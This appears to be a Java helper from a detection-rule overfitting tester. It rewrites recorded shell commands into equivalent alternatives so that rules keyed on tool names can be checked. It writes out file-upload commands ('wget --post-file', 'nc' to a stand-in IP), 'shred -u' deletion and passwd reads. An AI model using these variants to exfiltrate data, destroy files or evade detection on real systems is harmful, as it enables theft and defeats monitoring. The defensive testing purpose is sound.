package dev.yagura.sigma.overfit;

import java.util.List;
import java.util.SplittableRandom;

/** Another program that does what the recorded one did. */
final class OtherTools {
    private OtherTools() {}

    static Command instead(Command command, SplittableRandom random) {
        return switch (command.name()) {
            case "id" -> pick(random, "/usr/bin/groups groups", "/usr/bin/getent getent passwd 33");
            case "whoami" -> pick(random, "/usr/bin/id id -un", "/usr/bin/logname logname");
            case "uname" ->
                    pick(
                            random,
                            "/usr/bin/hostnamectl hostnamectl",
                            "/usr/bin/cat cat /proc/version",
                            "/usr/bin/lscpu lscpu");
            case "cat" -> reader(command, random);
            case "chmod" -> maker(command, random);
            case "rm" -> remover(command, random);
            case "curl" -> transfer(command, random);
            default -> command;
        };
    }

    private static Command reader(Command command, SplittableRandom random) {
        String file = command.args().getLast();
        return pick(
                random,
                "/usr/bin/head head -n 100 " + file,
                "/usr/bin/tac tac " + file,
                "/usr/bin/sed sed -n p " + file,
                "/usr/bin/base64 base64 " + file,
                "/usr/bin/getent getent passwd");
    }

    private static Command maker(Command command, SplittableRandom random) {
        String file = command.args().getLast();
        return pick(
                random,
                "/usr/bin/install install -m 755 " + file + " " + file + ".1",
                "/usr/bin/perl perl -e chmod(0755,'" + file + "')");
    }

    private static Command remover(Command command, SplittableRandom random) {
        String file = command.args().get(command.args().size() > 2 ? 2 : 1);
        return pick(
                random,
                "/usr/bin/unlink unlink " + file,
                "/usr/bin/shred shred -u " + file,
                "/usr/bin/find find " + file + " -delete");
    }

    /** Downloads, uploads and requests by something else than curl. */
    private static Command transfer(Command command, SplittableRandom random) {
        List<String> args = command.args();
        String url = args.stream().filter(arg -> arg.startsWith("http")).findFirst().orElse("");
        int data = args.indexOf("--data-binary");
        if (data >= 0) {
            String file = args.get(data + 1).substring(1);
            return pick(
                    random,
                    "/usr/bin/wget wget -q -O - --post-file=" + file + " " + url,
                    "/usr/bin/nc nc 203.0.113.66 80");
        }
        int output = args.indexOf("-o");
        String file = output < 0 ? "-" : args.get(output + 1);
        return pick(
                random,
                "/usr/bin/wget wget -q -O " + file + " " + url,
                "/usr/bin/wget wget --quiet --output-document=" + file + " " + url,
                "/usr/bin/python3.11 python3 -c import_urllib.request;urlretrieve('"
                        + url
                        + "','"
                        + file
                        + "')");
    }

    private static Command pick(SplittableRandom random, String... ways) {
        List<String> words = List.of(ways[random.nextInt(ways.length)].split(" "));
        return new Command(words.getFirst(), words.subList(1, words.size()));
    }
}
